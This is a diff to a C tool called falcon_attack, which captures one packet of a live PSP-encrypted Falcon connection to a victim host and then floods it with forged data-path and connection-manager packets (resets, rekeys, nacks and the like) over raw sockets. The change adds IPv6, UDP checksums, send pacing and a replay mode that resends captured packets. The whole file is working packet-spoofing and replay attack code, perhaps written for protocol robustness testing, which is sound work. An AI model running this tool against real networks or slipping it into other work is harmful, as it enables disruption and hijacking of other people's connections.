@@ -5,8 +5,9 @@
  * Looks at one packet of a live connection to HOST as it leaves an interface, and
  * forges others for that connection: of it they have right what -r says, and
  * all else is random. So the attacker is off the path with the luck that -r
- * gives him, or on it. IPv4; prints how many left. The bytes are laid out here by
- * hand, from the specification and connection-manager.rst.
+ * gives him, or on it. Or he sends again what he has seen, as it was. Prints how
+ * many left. The bytes are laid out here by hand, from the specification and
+ * connection-manager.rst.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -14,8 +15,10 @@
 #include <getopt.h>
 #include <netinet/in.h>
 #include <netinet/ip.h>
+#include <netinet/ip6.h>
 #include <netinet/udp.h>
 #include <stdbool.h>
+#include <stddef.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -27,21 +30,25 @@
 
 #define PSP_PORT	1000
 #define CM_PORT		4795
-#define CAPTURE_MS	10000
+#define CAPTURE_MS	30000
 #define NO_ENCRYPTION	15
 #define ICV_LEN		16
 
 static const char help[] =
 	"usage: falcon_attack -i IFACE -k KIND,... [-r RIGHT] [-a SOURCE] [-n NUMBER]\n"
-	"                     IPV4             NUMBER of each kind\n"
+	"                     ADDRESS          NUMBER of each kind\n"
+	"       falcon_attack -i IFACE -A TYPE [-w MS] [-n NUMBER] ADDRESS\n"
+	"                     the next one of that TYPE again, MS later\n"
 	"KIND: push, pull, answer, fin, reset, resync, nack, back, eack;\n"
 	"      cm_cookie, cm_accept, cm_confirm, cm_refuse, cm_reset, cm_rekey,\n"
 	"      cm_rekey_ack\n"
+	"TYPE: packet, or one of cm_*\n"
 	"RIGHT: letters: c CID, s SPI, p PCID, t time (IV)\n";
 
 /* Of the connection, as a packet to the victim shows it */
 static struct {
-	__u32 saddr;	/* network order */
+	__u8 pkt[2048];	/* all of it, from the IP header on */
+	unsigned int len;
 	__u16 sport;
 	__u8 version;	/* of PSP */
 	__u32 spi;
@@ -52,11 +59,13 @@ static struct {
 
 #define MAX_KINDS	16
 
-static const char *iface, *kind, *right = "";
+static const char *iface, *kind, *right = "", *again;
 static const char *kinds[MAX_KINDS];
-static int nr_kinds;
-static struct in_addr source, victim;
-static long number = 1000;
+static int nr_kinds, family;
+static unsigned int addr_len, ip_len;
+static __u8 source[16], victim[16];
+static bool stranger;
+static long number = 1000, wait_ms;
 
 static void die(const char *what)
 {
@@ -129,18 +138,48 @@ static __u64 pcid(void)
  * What can be seen
  */
 
-static bool learn(const __u8 *p, ssize_t len)
-{
-	const struct iphdr *ip = (const void *)p;
-	const struct udphdr *udp = (const void *)(p + sizeof(*ip));
-	const __u8 *psp = (const __u8 *)(udp + 1);
+/* 0: no message has that name. */
+static __u8 message_type(const char *name);
 
-	if (len < (ssize_t)sizeof(*ip) + 8 + 28 || ip->version != 4 ||
-	    ip->ihl != 5 || ip->protocol != IPPROTO_UDP ||
-	    ip->daddr != victim.s_addr || udp->dest != htons(PSP_PORT))
+static __u8 *saddr_of(__u8 *ip)
+{
+	return ip + (family == AF_INET ? offsetof(struct iphdr, saddr) :
+					 offsetof(struct ip6_hdr, ip6_src));
+}
+
+static __u8 *daddr_of(__u8 *ip)
+{
+	return saddr_of(ip) + addr_len;
+}
+
+/* What is behind the UDP header, if the packet is one to the victim's @port */
+static __u8 *udp_to(__u8 *ip, __u16 port)
+{
+	struct udphdr *udp = (void *)(ip + ip_len);
+	__u8 proto = ip[family == AF_INET ? offsetof(struct iphdr, protocol) :
+					    offsetof(struct ip6_hdr, ip6_nxt)];
+
+	if (ip[0] >> 4 != (family == AF_INET ? 4 : 6) ||
+	    (family == AF_INET && (ip[0] & 15) != 5) || proto != IPPROTO_UDP ||
+	    memcmp(daddr_of(ip), victim, addr_len) || udp->dest != htons(port))
+		return NULL;
+	return (__u8 *)(udp + 1);
+}
+
+/* A packet of the connection, or the message that is wanted again */
+static bool learn(__u8 *p, ssize_t len)
+{
+	unsigned int hdr = ip_len + sizeof(struct udphdr);
+	__u8 type = again ? message_type(again) : 0, *psp;
+
+	if (len < hdr + 28 || len > (ssize_t)sizeof(seen.pkt))
 		return false;
-	seen.saddr = ip->saddr;
-	seen.sport = ntohs(udp->source);
+	psp = udp_to(p, type ? CM_PORT : PSP_PORT);
+	if (!psp || (type && psp[5] != type))
+		return false;
+	memcpy(seen.pkt, p, len);
+	seen.len = len;
+	seen.sport = ntohs(((struct udphdr *)(p + ip_len))->source);
 	seen.version = psp[3] >> 2 & 15;
 	seen.spi = get32(psp + 4);
 	seen.iv = get64(psp + 8);
@@ -155,6 +194,7 @@ static void look(void)
 	static __u64 buf[8192];
 	ssize_t n;
 
+	fputs("looking\n", stderr);
 	while ((n = capture_next(fd, buf, sizeof(buf), CAPTURE_MS)) > 0) {
 		if (!learn((__u8 *)buf, n))
 			continue;
@@ -357,6 +397,17 @@ static const struct {
 	{ }
 };
 
+static __u8 message_type(const char *name)
+{
+	size_t i;
+
+	for (i = 0; messages[i].name; i++) {
+		if (!strcmp(messages[i].name, name))
+			return messages[i].type;
+	}
+	return 0;
+}
+
 static unsigned int forge_message(__u8 *msg)
 {
 	size_t i;
@@ -375,51 +426,103 @@ static unsigned int forge_message(__u8 *msg)
 	return 0;
 }
 
-/* The kernel fills in the checksum of IP; that of UDP may be left out. */
+static __u32 add16(__u32 sum, const __u8 *p, unsigned int len)
+{
+	for (; len > 1; len -= 2, p += 2)
+		sum += p[0] << 8 | p[1];
+	return len ? sum + (p[0] << 8) : sum;
+}
+
+/* Of UDP, with the pseudo header; the kernel fills in that of IP. */
+static void set_checksum(__u8 *ip, unsigned int len)
+{
+	struct udphdr *udp = (void *)(ip + ip_len);
+	__u32 sum = IPPROTO_UDP + len;
+
+	udp->check = 0;
+	sum = add16(sum, saddr_of(ip), 2 * addr_len);
+	sum = add16(sum, (__u8 *)udp, len);
+	while (sum >> 16)
+		sum = (sum & 0xffff) + (sum >> 16);
+	udp->check = htons(sum == 0xffff ? sum : ~sum);
+}
+
+static void put_ip(__u8 *p, unsigned int len)
+{
+	struct iphdr *ip = (void *)p;
+	struct ip6_hdr *ip6 = (void *)p;
+
+	if (family == AF_INET)
+		*ip = (struct iphdr) {
+			.version = 4, .ihl = 5, .ttl = 64,
+			.protocol = IPPROTO_UDP,
+		};
+	else
+		*ip6 = (struct ip6_hdr) {
+			.ip6_flow = htonl(6 << 28), .ip6_plen = htons(len),
+			.ip6_nxt = IPPROTO_UDP, .ip6_hlim = 64,
+		};
+	memcpy(saddr_of(p), stranger ? source : saddr_of(seen.pkt), addr_len);
+	memcpy(daddr_of(p), victim, addr_len);
+}
+
 static unsigned int forge(__u8 *pkt)
 {
-	struct iphdr *ip = (void *)pkt;
-	struct udphdr *udp = (void *)(ip + 1);
+	struct udphdr *udp = (void *)(pkt + ip_len);
 	__u8 *msg = (__u8 *)(udp + 1);
 	bool cm = !strncmp(kind, "cm_", 3);
 	unsigned int len = cm ? forge_message(msg) : forge_packet(msg);
 
 	if (!len)
 		return 0;
-	*ip = (struct iphdr) {
-		.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
-		.saddr = source.s_addr ? source.s_addr : seen.saddr,
-		.daddr = victim.s_addr,
-	};
+	len += sizeof(*udp);
+	put_ip(pkt, len);
 	*udp = (struct udphdr) {
 		.source = htons(cm ? CM_PORT : seen.sport),
 		.dest = htons(cm ? CM_PORT : PSP_PORT),
-		.len = htons(sizeof(*udp) + len),
+		.len = htons(len),
 	};
-	return sizeof(*ip) + sizeof(*udp) + len;
+	set_checksum(pkt, len);
+	return ip_len + len;
+}
+
+/* As it was, but for the checksum, which may have been left to the device */
+static unsigned int repeat(__u8 *pkt)
+{
+	memcpy(pkt, seen.pkt, seen.len);
+	set_checksum(pkt, seen.len - ip_len);
+	return seen.len;
 }
 
 static long attack(void)
 {
-	const struct sockaddr_in to = {
-		.sin_family = AF_INET, .sin_addr = victim,
-	};
-	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+	union {
+		struct sockaddr sa;
+		struct sockaddr_in in;
+		struct sockaddr_in6 in6;
+	} to = { .sa.sa_family = family };
+	int fd = socket(family, SOCK_RAW, IPPROTO_RAW);
 	static __u64 pkt[256];
 	unsigned int len;
 	long i, sent = 0;
 
 	if (fd < 0)
 		die("socket");
+	if (family == AF_INET)
+		memcpy(&to.in.sin_addr, victim, addr_len);
+	else
+		memcpy(&to.in6.sin6_addr, victim, addr_len);
 	for (i = 0; i < number * nr_kinds; i++) {
 		kind = kinds[i % nr_kinds];
-		len = forge((__u8 *)pkt);
+		len = again ? repeat((__u8 *)pkt) : forge((__u8 *)pkt);
 		if (!len) {
 			fputs(help, stderr);
 			exit(2);
 		}
-		if (sendto(fd, pkt, len, 0, (const struct sockaddr *)&to,
-			   sizeof(to)) == (ssize_t)len)
+		/* What comes too fast for the victim is not judged. */
+		if (i % 32 == 31)
+			usleep(1000);
+		if (sendto(fd, pkt, len, 0, &to.sa, sizeof(to)) == (ssize_t)len)
 			sent++;
 		else if (errno != ENOBUFS)
 			die("sendto");
@@ -433,39 +536,65 @@ static void parse_kinds(char *list)
 		kinds[nr_kinds++] = strsep(&list, ",");
 }
 
-int main(int argc, char **argv)
+static bool parse_victim(const char *host)
 {
+	family = strchr(host, ':') ? AF_INET6 : AF_INET;
+	addr_len = family == AF_INET ? 4 : 16;
+	ip_len = family == AF_INET ? sizeof(struct iphdr) :
+				     sizeof(struct ip6_hdr);
+	return inet_pton(family, host, victim) == 1;
+}
+
+static bool parse(int argc, char **argv)
+{
+	const char *from = NULL;
 	int c;
 
-	while ((c = getopt(argc, argv, "i:k:r:a:n:h")) != -1) {
+	while ((c = getopt(argc, argv, "i:k:A:w:r:a:n:h")) != -1) {
 		switch (c) {
 		case 'i':
 			iface = optarg;
 			break;
+		case 'A':
+			again = optarg;
+			nr_kinds = 1;
+			break;
 		case 'k':
 			parse_kinds(optarg);
+			break;
+		case 'w':
+			wait_ms = atol(optarg);
 			break;
 		case 'r':
 			right = optarg;
 			break;
 		case 'a':
-			if (!inet_aton(optarg, &source))
-				optind = argc;
+			from = optarg;
 			break;
 		case 'n':
 			number = atol(optarg);
 			break;
 		default:
-			fputs(help, stderr);
-			return 2;
+			return false;
 		}
 	}
 	if (optind != argc - 1 || !iface || !nr_kinds ||
-	    !inet_aton(argv[optind], &victim)) {
+	    !parse_victim(argv[optind]))
+		return false;
+	stranger = from;
+	if (stranger && inet_pton(family, from, source) != 1)
+		return false;
+	return !again || !strcmp(again, "packet") || message_type(again);
+}
+
+int main(int argc, char **argv)
+{
+	if (!parse(argc, argv)) {
 		fputs(help, stderr);
 		return 2;
 	}
 	look();
+	usleep(wait_ms * 1000);
 	printf("%ld\n", attack());
 	return 0;
 }
